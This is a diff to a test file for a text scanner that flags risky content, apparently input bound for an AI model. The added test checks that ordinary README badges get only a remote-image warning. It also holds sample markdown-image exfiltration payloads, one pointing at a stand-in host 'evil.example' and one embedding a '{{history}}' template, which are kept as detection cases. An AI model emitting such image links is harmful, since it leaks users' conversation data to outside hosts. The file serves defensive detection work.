@@ -535,6 +535,22 @@ void describe('scanText warns', () => {
     assert.deepEqual(rules('See ![diagram](https://example.org/figure1.png)'), ['remote_image']);
   });
 
+  void test("only warns on a README's status badges and avatars, whose query carries nothing away", () => {
+    const readme = [
+      '[![CI](https://github.com/acme/widget/actions/workflows/ci.yml/badge.svg?branch=main)](https://github.com/acme/widget/actions)',
+      '![npm](https://img.shields.io/badge/conventional%20commits-1.0.0-yellow.svg?style=flat-square)',
+      '![build](https://travis-ci.org/acme/widget.svg?branch=master)',
+      '<img src="https://www.gravatar.com/avatar/24e08a9ea84deb17ae121074d0f17125?s=70">',
+    ];
+    for (const line of readme) assert.deepEqual(rules(line), ['remote_image'], line);
+    // The same hosts with a template or another URL in the query are still exfiltration.
+    for (const line of [
+      '![s](https://img.shields.io/endpoint?url=https://evil.example/c?d=abc)',
+      '![s](https://img.shields.io/badge/x-{{history}}-red)',
+    ])
+      assert.deepEqual(rules(line), ['markdown_image_exfiltration'], line);
+  });
+
   void test('warns on harmless tag characters and on many invisible characters', () => {
     assert.deepEqual(rules(`flag ${tagged('hello there')}`), ['hidden_tag_chars']);
     assert.deepEqual(rules(`a${'\u200b'.repeat(6)}b`), ['hidden_invisible_chars']);
